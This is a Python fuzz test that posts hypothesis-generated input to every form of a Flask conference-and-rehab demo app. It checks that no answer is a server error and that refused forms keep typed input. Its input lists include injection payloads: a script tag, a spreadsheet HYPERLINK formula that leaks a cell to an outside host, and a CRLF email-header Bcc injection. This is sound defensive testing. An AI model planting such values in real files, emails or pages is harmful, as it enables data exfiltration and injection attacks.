"""Every form the demo shows a coordinator and a meeting's chair, posted with hypothesis-generated input (seeded,
bounded): hidden versions that are not numbers, blank selects, sNaN and 400-digit numbers, dates in year 9999 and
year 1, ids past 2^63, whitespace-only and NUL-laden text. No answer is a 5xx, and a refused form gives back what
was typed."""

from __future__ import annotations

import os
import re
import traceback
from html.parser import HTMLParser

from flask import got_request_exception
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape

from conference.extensions import db
from conference.seed import DEMO_PASSWORD, seed_demo
from tests.conftest import login

NASTY_TEXT = st.sampled_from(
    ["", " ", "   \t ", "a\x00b", "x" * 5000, "Åsa Öberg", "<script>1</script>", "sNaN", "NaN", "-0", "1e400", "\r\n"]
    + ['=HYPERLINK("http://host/?"&B2,"open")', "MDT\r\nBcc: a@example-hospital.se", "＝1+1", "%", "_", "\u202e"]
    + ["%00", "😀" * 50, "a\u2028b", "0" * 120, "x" * 101]
)
NASTY_NUMBER = st.sampled_from(["", "abc", "sNaN", "NaN", "Infinity", "-1", "0", "9" * 400, str(2**63), "1.5", " 7 "])
NASTY_DATE = st.sampled_from(["", "9999-12-31", "0001-01-01", "2026-02-30", "tomorrow", "2026-13-01", "1900-01-01"])


class Forms(HTMLParser):
    """The POST forms of a page: action and (name, type, options) of each field."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self._form = None
        self._select = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and attrs.get("method", "get").lower() == "post":
            self._form = {"action": attrs.get("action") or "", "fields": {}}
            self.forms.append(self._form)
        elif self._form is not None and tag in ("input", "textarea", "select"):
            name = attrs.get("name")
            if name and name != "csrf_token":
                kind = "select" if tag == "select" else ("textarea" if tag == "textarea" else attrs.get("type", "text"))
                self._form["fields"].setdefault(name, {"type": kind, "options": []})
                if tag == "select":
                    self._select = name
        elif tag == "option" and self._form is not None and self._select:
            self._form["fields"][self._select]["options"].append(attrs.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def _value(field: dict):
    kind = field["type"]
    if kind in ("number",):
        return NASTY_NUMBER
    if kind == "date":
        return NASTY_DATE
    if kind in ("select", "radio", "checkbox"):
        return st.one_of(
            st.sampled_from(field["options"] or [""]),
            st.sampled_from(["", "999999999999999999999", "x", "   ", "\t", "-1", "0", "a\x00b", str(2**63)]),
            st.sampled_from(field["options"] or [""]).map(lambda v: f" {v} "),
        )
    if kind == "hidden":
        return st.one_of(NASTY_NUMBER, st.just("1"))
    return st.one_of(NASTY_TEXT, st.text(min_size=0, max_size=30))


# Twelve examples per form keep the suite quick; CONFERENCE_FUZZ_EXAMPLES=200 runs the long fuzz (see the README).
EXAMPLES = int(os.environ.get("CONFERENCE_FUZZ_EXAMPLES", "12"))

PAGES = [
    "/",
    "/conferences/new",
    "/cases/new",
    "/patients/new",
    "/cases/",
    "/patients/",
    "/outbox/",
    "/account/password",
]


def test_no_form_answers_5xx_or_loses_input(app):
    with app.app_context():
        seed_demo(history=False)
        db.session.commit()
        from sqlalchemy import select

        from conference.agenda.models import AgendaItem
        from conference.cases.models import Case
        from conference.conferences.models import Conference

        case_id = db.session.scalar(select(Case.id).order_by(Case.id))
        conference_id = db.session.scalar(
            select(AgendaItem.conference_id).order_by(AgendaItem.conference_id.desc()).limit(1)
        )
        item_id = db.session.scalar(select(AgendaItem.id).where(AgendaItem.conference_id == conference_id).limit(1))
        held = db.session.scalar(select(Conference.id).where(Conference.status == "held").limit(1))
        from conference.conferences.models import ConferenceSeries
        from conference.meetings.models import RehabPlan

        series_id = db.session.scalar(select(ConferenceSeries.id).limit(1))
        plan_id = db.session.scalar(select(RehabPlan.id).where(RehabPlan.device.is_not(None)).limit(1))
        patient_id = db.session.scalar(select(Case.patient_id).where(Case.id == case_id))
    pages = PAGES + [
        f"/cases/{case_id}",
        f"/cases/{case_id}/edit",
        f"/cases/{case_id}/measurements/new",
        f"/conferences/{conference_id}",
        f"/conferences/{conference_id}/reschedule",
        f"/meetings/{held}",
        f"/meetings/item/{item_id}",
        f"/cases/agenda/{conference_id}/list?case_id={case_id}",
        f"/conferences/series/{series_id}",
        f"/conferences/series/{series_id}/reschedule",
        f"/patients/{patient_id}/edit",
        f"/rehab/plan/{plan_id}",
        "/conferences/calendar-feed",
    ]
    coordinator, admin = app.test_client(), app.test_client()
    assert login(coordinator, "koordinator@example-hospital.se", DEMO_PASSWORD).status_code == 302
    assert login(admin, "admin@example-hospital.se", DEMO_PASSWORD).status_code == 302
    targets = []
    for client, persona_pages in (
        (coordinator, pages),
        (admin, ["/admin/users/new", "/admin/users/", "/integrations/"]),
    ):
        for page in persona_pages:
            parser = Forms()
            parser.feed(client.get(page).get_data(as_text=True))
            for form in parser.forms:
                action = form["action"] or page.split("?")[0]
                if action.endswith(("/logout", "/sign", "/language", "/retry-failed", "/active")):
                    continue
                targets.append((client, page, action, form["fields"]))
    assert len(targets) >= 15
    failures = []
    posts = [0]
    causes: list[str] = []

    def record(sender, exception, **extra):
        frame = traceback.extract_tb(exception.__traceback__)[-1]
        causes.append(f"{type(exception).__name__}: {str(exception)[:120]} at {frame.filename}:{frame.lineno}")

    got_request_exception.connect(record, app)

    for client, page, action, fields in targets:
        strategy = st.fixed_dictionaries({name: _value(field) for name, field in fields.items()})

        @settings(
            max_examples=EXAMPLES,
            deadline=None,
            derandomize=True,
            database=None,
            suppress_health_check=list(HealthCheck),
        )
        @given(data=strategy)
        def post(data):
            token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get(page).get_data(as_text=True))
            posts[0] += 1
            try:
                response = client.post(action, data={**data, "csrf_token": token.group(1) if token else ""})
            except Exception as error:  # noqa: BLE001 - the test app propagates a 500's exception: count it, go on
                failures.append((action, data, 500, f"{type(error).__name__}: {error}"[:200]))
                return
            if response.status_code >= 500:
                failures.append((action, data, response.status_code, causes[-1:]))
            elif response.status_code in (400, 409) and response.mimetype == "text/html":
                body = response.get_data(as_text=True)
                for name, value in data.items():
                    typed = str(value)
                    if (
                        fields[name]["type"] in ("text", "textarea", "email", "url")
                        and typed.strip()
                        and typed.isprintable()
                        and len(typed) < 200
                        and "<" not in typed
                        and "&" not in typed
                        and '"' not in typed
                        and "'" not in typed
                        and typed not in body
                        and str(escape(typed)) not in body  # shown as typed, HTML-escaped (">" is "&gt;")
                    ):
                        failures.append((action, name, typed, "typed input lost", response.status_code))

        post()
    got_request_exception.disconnect(record, app)
    print(f"fuzz: {posts[0]} posts, {len(failures)} failures, causes: {sorted(set(causes))}")
    assert not failures, failures[:10]
